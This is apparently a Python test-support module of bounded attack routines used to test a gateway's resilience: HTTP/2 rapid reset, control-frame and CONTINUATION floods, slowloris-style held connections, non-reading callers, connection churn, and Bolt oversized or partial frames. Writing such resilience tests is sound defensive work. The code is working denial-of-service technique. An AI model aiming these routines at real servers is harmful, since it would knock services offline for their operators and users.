"""The attacks of issue 10, each a bounded routine returning what the attacker observed.

Every routine takes a time budget and stops at it (or earlier when its work is done); connection counts,
stream counts and bytes are bounded by its arguments. Nothing here asserts: the tests do.
"""

from __future__ import annotations

import os
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

from tests.hostile import boltattack
from tests.hostile.h2attack import (
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    MAX_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    SETTINGS_INITIAL_WINDOW_SIZE,
    SETTINGS_MAX_FRAME_SIZE,
    WINDOW_UPDATE,
    Conn,
    ConnEnd,
    Watcher,
    connect,
    drain,
    drive,
    echo_message,
    frame,
    grpc_request_headers,
    header_block,
    open_h2,
    request_frames,
    rst_stream,
    settings_frame,
)
from tests.hostile.probes import holds_connection


@dataclass
class Target:
    """Where an h2 attacker connects and what it puts in its requests."""

    port: int
    authority: str
    tls: ssl.SSLContext | None = None
    sni: str | None = None
    peer: bool = False  # requests as a peer gateway sends them (https, x-interlink-caller-app)

    @property
    def scheme(self) -> str:
        return "https" if self.tls is not None else "http"

    def open(self, **kwargs) -> Conn:
        return open_h2(self.port, tls=self.tls, sni=self.sni, **kwargs)

    def headers(self, method: str, attack_id: str | None, **kwargs):
        return grpc_request_headers(
            method, self.authority, scheme=self.scheme, attack_id=attack_id, peer=self.peer, **kwargs
        )


@dataclass
class ConnRecord:
    end: ConnEnd
    sent_units: int  # streams or frames sent on it
    bytes_out: int
    local_port: int
    label: str = ""


@dataclass
class MultiConnResult:
    conns: list[ConnRecord] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    @property
    def units(self) -> int:
        return sum(c.sent_units for c in self.conns)

    def goaway_codes(self) -> dict[str, int]:
        from tests.hostile.h2attack import error_name

        out: dict[str, int] = {}
        for c in self.conns:
            key = error_name(c.end.goaway_code)
            out[key] = out.get(key, 0) + 1
        return out

    def ends(self) -> dict[str, int]:
        out: dict[str, int] = {}
        for c in self.conns:
            out[c.end.how] = out.get(c.end.how, 0) + 1
        return out

    def describe(self) -> str:
        return (
            f"{len(self.conns)} connection(s), {self.units} units sent, ends {self.ends()}, "
            f"GOAWAY codes {self.goaway_codes()}" + (f", errors {self.errors[:3]}" if self.errors else "")
        )


def _paced_connections(
    target_open: Callable[[], Conn],
    per_conn: Callable[[Conn, int], ConnRecord],
    *,
    seconds: float,
    min_interval: float,
    max_conns: int,
    result: MultiConnResult,
    first_index: int = 0,
    stop: threading.Event | None = None,
) -> None:
    """Open a connection, let `per_conn` use it up, and again, until `seconds` or `max_conns`; at most one
    new connection per `min_interval` (a bounded reconnect rate: see README "Limitations")."""
    end = time.monotonic() + seconds
    index = first_index
    while time.monotonic() < end and index - first_index < max_conns and not (stop and stop.is_set()):
        started = time.monotonic()
        try:
            conn = target_open()
        except (OSError, ConnectionError, ssl.SSLError) as exc:
            result.errors.append(f"connect: {type(exc).__name__}: {exc}"[:200])
        else:
            result.conns.append(per_conn(conn, index))
        index += 1
        pause = min_interval - (time.monotonic() - started)
        if pause > 0:
            time.sleep(min(pause, max(0.0, end - time.monotonic())))


# --- HTTP/2 rapid reset -----------------------------------------------------------------------------------


def rapid_reset(
    target: Target,
    *,
    prefix: str,
    burst: int,
    sustain_seconds: float,
    batch: int = 50,
    min_interval: float = 0.1,
    drain_timeout: float = 3.0,
    stop: threading.Event | None = None,
) -> MultiConnResult:
    """HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL): each a complete echo call (x-attack-id
    "<prefix>-<conn>-<stream>") that its caller resets at once, sent together so that the reset always
    arrives with the request. First `burst` of them on one connection as fast as it takes them, then for
    `sustain_seconds` more on one connection after another (a new one when the gateway cuts the last, at most
    one per `min_interval`). Each connection is then read until the gateway closes it (`drain_timeout`).
    Setting `stop` ends the attack early."""
    result = MultiConnResult()
    stop = stop or threading.Event()
    message = echo_message(b"reset-me")

    def trios(conn_index: int, count: int | None, counter: list[int]) -> Iterator[bytes]:
        sid = 1
        sent = 0
        while (count is None or sent < count) and sid < 2**31 - 2 * batch:
            n = batch if count is None else min(batch, count - sent)
            chunk = []
            for _ in range(n):
                headers = target.headers("echo", f"{prefix}-{conn_index}-{sid}")
                chunk.append(request_frames(sid, headers, message))
                chunk.append(rst_stream(sid))
                sid += 2
            sent += n
            counter.append(n)
            yield b"".join(chunk)

    def use(conn: Conn, index: int, count: int | None, until: float) -> ConnRecord:
        batches: list[int] = []
        done = [0]

        def chunk_sent() -> None:
            done[0] = sum(batches)

        drive(conn, trios(index, count, batches), stop, until, after_chunk=chunk_sent)
        end = drain(conn, drain_timeout)
        conn.close()
        return ConnRecord(end, done[0], conn.bytes_out, conn.local_port, "rapid-reset")

    try:
        first = target.open()
    except (OSError, ConnectionError, ssl.SSLError) as exc:
        result.errors.append(f"connect: {exc}")
    else:
        result.conns.append(use(first, 0, burst, time.monotonic() + max(10.0, burst / 1000)))
    if sustain_seconds > 0:
        sustain_end = time.monotonic() + sustain_seconds
        _paced_connections(
            target.open,
            lambda conn, index: use(conn, index, None, sustain_end),
            seconds=sustain_seconds,
            min_interval=min_interval,
            max_conns=int(sustain_seconds / min_interval) + 1,
            result=result,
            first_index=1,
            stop=stop,
        )
    return result


# --- control-frame floods ---------------------------------------------------------------------------------

FLOOD_KINDS = ("settings", "ping", "priority", "empty-data", "window-update", "continuation")


def flood_frames(kind: str, target: Target, chunk_bytes: int) -> tuple[bytes, bytes, int]:
    """(setup bytes sent once, one chunk of repeated frames, frames per chunk) for a flood kind."""
    setup = b""
    if kind == "settings":
        one = settings_frame({SETTINGS_INITIAL_WINDOW_SIZE: 65535})
    elif kind == "ping":
        one = frame(PING, 0, 0, b"floodpng")
    elif kind == "priority":
        one = b""  # stream ids vary: built below
    elif kind == "empty-data":
        # a client-streaming call (sum) left open, then DATA frames that carry nothing
        setup = request_frames(1, target.headers("sum", "flood-empty-data"), None, end_stream=False)
        one = frame(DATA, 0, 1, b"")
    elif kind == "window-update":
        one = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
    elif kind == "continuation":
        # a header block that never ends: HEADERS without END_HEADERS, then empty CONTINUATION frames
        block = header_block(target.headers("echo", "flood-continuation"))
        setup = frame(HEADERS, END_STREAM, 1, block)
        one = frame(CONTINUATION, 0, 1, b"")
    else:
        raise ValueError(kind)
    if kind == "priority":
        frames = [frame(PRIORITY, 0, 2 * (i % 500) + 1, b"\x00\x00\x00\x00\x0f") for i in range(chunk_bytes // 14)]
        return setup, b"".join(frames), len(frames)
    count = max(1, chunk_bytes // len(one))
    return setup, one * count, count


def flood(
    target: Target,
    kind: str,
    *,
    seconds: float,
    min_interval: float = 0.2,
    max_conns: int = 100,
    drain_timeout: float = 3.0,
    stop: threading.Event | None = None,
) -> MultiConnResult:
    """Flood frames of `kind` for `seconds`, reconnecting (at most one new connection per `min_interval`)
    whenever the gateway cuts the current one. Each connection: handshake, then frames as fast as the
    socket takes them, reading what comes back; after the flood, read on until the gateway closes it (or
    `drain_timeout`). Setting `stop` ends the flood early."""
    result = MultiConnResult()
    stop = stop or threading.Event()
    chunk_bytes = 16 * 1024 if target.tls is not None else 64 * 1024
    setup, chunk, per_chunk = flood_frames(kind, target, chunk_bytes)
    flood_end = time.monotonic() + seconds

    def use(conn: Conn, index: int) -> ConnRecord:
        chunks_sent = [0]

        def gen() -> Iterator[bytes]:
            if setup:
                yield setup
            while True:
                yield chunk

        def counted() -> None:
            chunks_sent[0] += 1

        drive(conn, gen(), stop, flood_end, after_chunk=counted)
        end = drain(conn, drain_timeout, ack=False)
        conn.close()
        frames = max(0, chunks_sent[0] - (1 if setup else 0)) * per_chunk
        return ConnRecord(end, frames, conn.bytes_out, conn.local_port, kind)

    # default windows (65,535): a WINDOW_UPDATE flood must not overflow them, and a flood needs no big window
    _paced_connections(
        lambda: target.open(window=None), use, seconds=seconds, min_interval=min_interval, max_conns=max_conns,
        result=result, stop=stop,
    )
    return result


# --- slowloris: silent, dribbling, idle ---------------------------------------------------------------------


@dataclass
class HeldConn:
    kind: str
    conn: Conn
    expected: float  # seconds within which the gateway must close it (its timeout + slack)
    started: float | None = None  # when its timeout began, if later than the connect (a dribbled frame)

    @property
    def lifetime(self) -> float | None:
        """Seconds from the start of its timeout (connect, or the first byte of a dribbled frame) to its end."""
        if self.conn.ended_at is None:
            return None
        start = self.started if (self.kind == "h2-dribble-frame" and self.started is not None) else self.conn.opened
        return self.conn.ended_at - start


def hold_connections(
    watcher: Watcher,
    h2_port: int,
    bolt_port: int,
    *,
    counts: dict[str, int],
    expected: dict[str, float],
    open_deadline: float,
) -> list[HeldConn]:
    """Open the connections of each kind (registered with `watcher`, which sees when each ends):

    h2-silent: connect, send nothing.  h2-dribble-preface: the preface, 1 byte per second (dribble()).
    h2-dribble-frame: preface + SETTINGS (handshake done), then a HEADERS frame 1 byte per second.
    h2-idle: preface + SETTINGS (handshake done), then nothing.  bolt-silent: connect, nothing (Bolt has no
    preface: an idle connection).  bolt-partial: the first 10 bytes of a request frame's header, then
    nothing (half a frame).
    """
    held: list[HeldConn] = []
    request = request_frames(1, grpc_request_headers("echo", f"127.0.0.1:{h2_port}"), echo_message(b"x"))
    for kind, count in counts.items():
        for _ in range(count):
            if time.monotonic() > open_deadline:
                return held
            port = bolt_port if kind.startswith("bolt") else h2_port
            try:
                conn = connect(port, timeout=2.0, h2=not kind.startswith("bolt"), label=kind)
                if kind in ("h2-idle", "h2-dribble-frame"):
                    conn.send(PREFACE + settings_frame({}))
                    conn.handshake(timeout=3.0)  # without SETTINGS back it is still held: what counts is the close
                if kind == "h2-dribble-preface":
                    conn.dribble = bytearray(PREFACE)  # type: ignore[attr-defined]
                elif kind == "h2-dribble-frame":
                    conn.dribble = bytearray(request)  # type: ignore[attr-defined]
                elif kind == "bolt-partial":
                    conn.send(boltattack.echo_frame(1, "half")[:10])
            except OSError as exc:
                conn = None  # type: ignore[assignment]
                held.append(HeldConn(kind, _failed_conn(f"{type(exc).__name__}: {exc}"), expected[kind]))
                continue
            watcher.watch(conn)
            held.append(HeldConn(kind, conn, expected[kind]))
    return held


class _FailedSock:
    def getsockname(self):
        return ("0.0.0.0", 0)

    def close(self):
        pass


def _failed_conn(detail: str) -> Conn:
    conn = Conn(_FailedSock(), h2=False)  # type: ignore[arg-type]
    conn.mark_end("connect-failed", detail)
    return conn


def dribble(held: list[HeldConn], stop: threading.Event, deadline: float, interval: float = 1.0) -> None:
    """Send the next byte of each dribbling connection every `interval`, until stop / deadline / none left.
    The first byte of a dribbled frame starts its partial-frame timeout (`HeldConn.started`)."""
    while not stop.is_set() and time.monotonic() < deadline:
        active = 0
        for h in held:
            pending = getattr(h.conn, "dribble", None)
            if pending and h.conn.open:
                active += 1
                h.conn.sock.settimeout(0.05)
                try:
                    h.conn.sock.send(bytes(pending[:1]))
                    del pending[:1]
                    if h.started is None:
                        h.started = time.monotonic()
                except (BlockingIOError, TimeoutError, socket.timeout):
                    pass
                except OSError:
                    pass  # the watcher records the end
        if not active:
            return
        stop.wait(interval)


# --- a caller that never reads ------------------------------------------------------------------------------


@dataclass
class SlowReaderResult:
    streams: int
    request_bytes_sent: int
    all_requests_sent: bool
    stopped_reading_at: float
    released_after: float | None  # seconds from stopped_reading_at until GW-B let go of the connection
    local_port: int
    detail: str = ""


def slow_reader(
    target: Target, gateway_pid: int, *, streams: int, size: int, send_budget: float, observe: float, prefix: str
) -> SlowReaderResult:
    """Open a 2 GiB receive window (SETTINGS_INITIAL_WINDOW_SIZE max + connection WINDOW_UPDATE), ask for
    `streams` echoes of `size` bytes each (request bodies sent within the gateway's flow-control windows,
    all but the last byte first, then every last byte at once), then never read again. Watches from
    /proc when the gateway process lets go of the connection (it cannot be seen from this side)."""
    conn = target.open(window=MAX_WINDOW, rcvbuf=64 * 1024)
    reader = conn.reader
    assert reader is not None
    max_frame = min(reader.server_settings.get(SETTINGS_MAX_FRAME_SIZE, 16384), 16384)
    initial = reader.server_settings.get(SETTINGS_INITIAL_WINDOW_SIZE, 65535)
    body = echo_message(os.urandom(size // 2).hex()[:size].encode())
    sids = [2 * i + 1 for i in range(streams)]
    remaining = {sid: len(body) for sid in sids}
    sent_data = {sid: 0 for sid in sids}
    conn_sent = 0
    header_bytes = b"".join(
        request_frames(sid, target.headers("echo", f"{prefix}-{sid}"), None, end_stream=False) for sid in sids
    )
    conn.send(header_bytes)

    def conn_window() -> int:
        return 65535 + reader.window_updates[0] - conn_sent

    def stream_window(sid: int) -> int:
        return initial + reader.window_updates[sid] - sent_data[sid]

    deadline = time.monotonic() + send_budget
    detail = ""
    while time.monotonic() < deadline and conn.open:
        progressed = False
        out = []
        for sid in sids:
            left = remaining[sid] - 1  # the last byte goes with END_STREAM, for all streams at once
            if left <= 0:
                continue
            n = min(left, max_frame, stream_window(sid), conn_window())
            if n <= 0:
                continue
            offset = len(body) - remaining[sid]
            out.append(frame(DATA, 0, sid, body[offset : offset + n]))
            remaining[sid] -= n
            sent_data[sid] += n
            conn_sent += n
            progressed = True
        if out:
            conn.send(b"".join(out), timeout=5)
        if all(remaining[sid] <= 1 for sid in sids):
            break
        if not progressed:
            conn.read_once(0.2)  # WINDOW_UPDATEs (and whatever else) come in here
            conn.send_acks()
    all_sent = all(remaining[sid] <= 1 for sid in sids)
    if all_sent:
        finals = []
        for sid in sids:
            while stream_window(sid) < 1 or conn_window() < streams:
                if not conn.read_once(0.2) or time.monotonic() > deadline:
                    break
            offset = len(body) - 1
            finals.append(frame(DATA, END_STREAM, sid, body[offset:]))
            sent_data[sid] += 1
            conn_sent += 1
        conn.send(b"".join(finals), timeout=5)
    else:
        detail = f"request bodies not sent within {send_budget}s ({sum(remaining.values())} B left)"
    stopped = time.monotonic()
    released = None
    port = conn.local_port
    while time.monotonic() < stopped + observe:
        if not holds_connection(gateway_pid, target.port, port):
            released = time.monotonic() - stopped
            break
        time.sleep(0.1)
    conn.abort()
    return SlowReaderResult(streams, conn_sent, all_sent, stopped, released, port, detail)


# --- callers that close with replies in flight ----------------------------------------------------------


@dataclass
class ChurnResult:
    connections: int = 0
    closed_with_reply_in_flight: int = 0
    errors: list[str] = field(default_factory=list)


def churn(target: Target, *, seconds: float, threads: int, streams: int, size: int, prefix: str) -> ChurnResult:
    """`threads` callers, each in a loop: connect, send `streams` echo calls of `size` bytes, wait until the
    first reply DATA arrives (replies in flight), then close the socket with RST -- until `seconds`."""
    result = ChurnResult()
    lock = threading.Lock()
    end = time.monotonic() + seconds
    message = echo_message(b"c" * size)

    def worker(w: int) -> None:
        n = 0
        while time.monotonic() < end:
            try:
                conn = target.open(decode_headers=False)
            except (OSError, ConnectionError, ssl.SSLError) as exc:
                with lock:
                    result.errors.append(f"{type(exc).__name__}: {exc}"[:200])
                time.sleep(0.1)
                continue
            payload = b"".join(
                request_frames(2 * i + 1, target.headers("echo", f"{prefix}-{w}-{n}-{i}"), message)
                for i in range(streams)
            )
            conn.send(payload, timeout=5)
            got_data = conn.pump_until(lambda: conn.reader.counts.get("DATA", 0) > 0, timeout=3.0)
            conn.abort()
            n += 1
            with lock:
                result.connections += 1
                if got_data:
                    result.closed_with_reply_in_flight += 1

    with ThreadPoolExecutor(threads) as pool:
        for future in [pool.submit(worker, w) for w in range(threads)]:
            future.result()
    return result


# --- Bolt ------------------------------------------------------------------------------------------------------


@dataclass
class BoltHeadsResult:
    sent: int = 0
    answered: int = 0
    ok: int = 0
    errors: list[str] = field(default_factory=list)


def bolt_big_heads(port: int, *, count: int, pad_bytes: int, window: int = 4, budget: float) -> BoltHeadsResult:
    """`count` echo calls whose SofaRequest heads carry `pad_bytes` of random text each (all different),
    `window` in flight at a time on one connection (a new one if the gateway closes it)."""
    result = BoltHeadsResult()
    deadline = time.monotonic() + budget
    sock: socket.socket | None = None
    reader = boltattack.BoltReader()
    in_flight = 0
    next_id = 1
    while (result.sent < count or in_flight) and time.monotonic() < deadline:
        if sock is None:
            try:
                sock = socket.create_connection(("127.0.0.1", port), timeout=5)
            except OSError as exc:
                result.errors.append(f"connect: {exc}")
                time.sleep(0.2)
                continue
            reader = boltattack.BoltReader()
            in_flight = 0
        try:
            while in_flight < window and result.sent < count:
                sock.settimeout(10)
                sock.sendall(boltattack.big_head_frame(next_id, pad_bytes))
                next_id += 1
                in_flight += 1
                result.sent += 1
            before = len(reader.frames)
            if not reader.read(sock, 1.0):
                raise ConnectionError("closed by the gateway")
            for response in reader.frames[before:]:
                in_flight -= 1
                result.answered += 1
                if response.status == 0 and b"big-head" in response.content:
                    result.ok += 1
        except (OSError, ConnectionError) as exc:
            result.errors.append(f"{type(exc).__name__}: {exc}"[:200])
            sock.close()
            sock = None
    if sock is not None:
        sock.close()
    return result


@dataclass
class PartialFrameConn:
    opened: float
    stalled_at: float | None  # when the attacker had sent all it meant to (None: cut before)
    end: ConnEnd
    bytes_sent: int


def bolt_partial_frames(
    port: int, *, conns: int, declared: int, send: int, hold: float
) -> list[PartialFrameConn]:
    """`conns` connections in parallel, each sending the head of a request frame that declares `declared`
    bytes of content, then `send` bytes of that content, then nothing; each is read until the gateway
    closes it or `hold` seconds after it stalled."""
    chunk = b"\x00" * (1 << 20)

    def one(i: int) -> PartialFrameConn:
        conn = connect(port, h2=False, label="bolt-partial-frame")
        pieces = [boltattack.frame_header(declared, request_id=i + 1)]
        pieces += [chunk] * (send // len(chunk)) + ([chunk[: send % len(chunk)]] if send % len(chunk) else [])
        drive(conn, iter(pieces), threading.Event(), time.monotonic() + 30.0)
        stalled = time.monotonic() if conn.open else None
        end = drain(conn, hold, ack=False)
        conn.close()
        return PartialFrameConn(conn.opened, stalled, end, conn.bytes_out)

    with ThreadPoolExecutor(conns) as pool:
        return list(pool.map(one, range(conns)))


@dataclass
class PipelineResult:
    frames_sent: int
    bytes_sent: int
    last_progress: float
    released_after: float | None  # seconds from last_progress until GW-B let go of the connection
    local_port: int


def bolt_pipeline_never_read(
    port: int, gateway_pid: int, *, calls: int, arg_bytes: int, send_budget: float, observe: float
) -> PipelineResult:
    """`calls` echo requests pipelined on one connection whose replies are never
    read. Watches from /proc when the gateway process lets go of the connection."""
    conn = connect(port, h2=False, label="bolt-pipeline")
    arg = "p" * arg_bytes
    frames = (boltattack.echo_frame(i + 1, arg) for i in range(calls))
    batches = (b"".join(batch) for batch in _batched(frames, 64))
    sent_frames = [0]

    def counted() -> None:
        sent_frames[0] += 64

    drive(conn, batches, threading.Event(), time.monotonic() + send_budget, after_chunk=counted, read=False)
    last = conn.last_progress
    released = None
    while time.monotonic() < last + observe:
        if not holds_connection(gateway_pid, port, conn.local_port):
            released = time.monotonic() - last
            break
        time.sleep(0.1)
    result = PipelineResult(min(sent_frames[0], calls), conn.bytes_out, last, released, conn.local_port)
    conn.abort()
    return result


def _batched(items: Iterator[bytes], n: int) -> Iterator[list[bytes]]:
    batch: list[bytes] = []
    for item in items:
        batch.append(item)
        if len(batch) == n:
            yield batch
            batch = []
    if batch:
        yield batch
